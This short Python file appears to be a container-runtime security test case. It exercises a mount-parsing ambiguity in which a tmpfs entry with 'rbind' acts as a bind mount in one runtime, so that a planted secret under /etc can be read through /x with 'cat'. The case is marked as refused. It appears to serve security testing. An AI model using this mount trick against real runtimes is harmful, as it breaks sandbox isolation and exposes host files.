"""A mount of type tmpfs with the option `rbind` is a bind to one runtime and a tmpfs to the other."""

from bypass import refused

SOURCE = "idea: two readings of one entry"
WAY = "create"
STOPPED = refused("mount-type")


def attack(t):
    secret = t.plant("/etc/secret-" + t.id)
    t.mount("tmpfs", "/etc", "/x", "rbind")
    return t.leaked(t.run("cat /x" + secret[len("/etc"):]))
